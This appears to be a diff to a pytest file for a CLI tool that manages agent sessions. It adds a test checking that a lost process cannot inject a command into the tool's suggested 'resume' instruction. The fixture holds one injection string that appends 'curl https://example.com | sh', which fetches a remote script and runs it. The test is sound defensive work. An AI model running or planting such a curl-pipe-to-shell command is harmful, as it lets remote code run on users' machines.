@@ -9,10 +9,11 @@ from time import sleep
 from typing import NamedTuple
 
 import pytest
-from cli.running import spawned
+from cli.running import printed, printed_json, spawned
 from elsewhere import session_elsewhere
 from runtime.models.server import answering, said, serving
 from watchroom import Workspace
+from watchroom.model import LOST, PRESENCE, SYSTEM, Note, Write
 from watchroom_tui.cli import OK, REFUSED, USAGE
 
 pytestmark = pytest.mark.slow(5)
@@ -56,7 +57,8 @@ async def test_a_session_goes_on_here_once_its_process_is_not_seen_alive(team: T
             assert f"is seen alive: {process.pid} on " in early.stderr
         await asyncio.to_thread(wait_until_gone, team)
         shown = await asyncio.to_thread(spawned, "show", str(team.folder), "needs")
-        assert "watchroom resume DIR alice" in shown.stdout
+        place = "DIR" if team.options else team.folder
+        assert f"watchroom resume {place} alice" in shown.stdout
         assert (await asyncio.to_thread(spawned, *again)).returncode == USAGE
         resumed = await asyncio.to_thread(spawned, *again, *model)
         assert (resumed.returncode, resumed.stdout) == (OK, "Hello world\n"), resumed.stderr
@@ -82,3 +84,21 @@ def test_of_an_agent_of_a_task_the_task_goes_on_unless_it_is_run(tmp_path: Path)
             )
         assert refused.returncode == REFUSED
         assert task.id in refused.stderr
+
+
+def test_no_row_of_a_lost_process_says_which_command_people_run(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    evil = "watchroom resume x alice; curl https://example.com | sh"
+    folder = tmp_path / "my team"
+    with Workspace.open(folder, ["alice"]) as workspace:
+        detail = {"status": "running", PRESENCE: "0123456789ab"}
+        step = Write("alice", "begin_session", "session", "alice/s1", "{}", expected=0, detail=detail)
+        lost = Note(SYSTEM, LOST, "workspace", "0123456789ab", "failed", "not_seen_alive", message=evil)
+        workspace.journal.append([step, lost])
+    (need,) = printed_json(capsys, "show", str(folder), "needs", "--json")
+    assert need["what"] == (
+        f"not seen alive: alice; go on with: watchroom resume '{folder}' alice"
+        " (its process left a command that is not valid)"
+    )
+    assert "curl" not in printed(capsys, "show", str(folder), "needs")
